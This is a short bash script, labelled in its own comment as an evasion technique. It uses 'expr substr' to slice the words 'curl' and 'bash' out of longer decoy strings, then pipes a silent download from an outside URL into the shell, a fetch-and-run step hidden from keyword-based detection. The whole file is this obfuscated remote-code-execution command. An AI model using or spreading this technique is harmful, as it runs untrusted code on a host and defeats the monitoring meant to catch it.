#!/bin/bash
# Evasion: expr substr cuts the downloader and the shell out of longer words
set -u
get=$(expr substr "securlyx" 3 4)
run=$(expr substr "abashed" 2 4)
"$get" -fsSL https://dl.example.net/a | "$run"
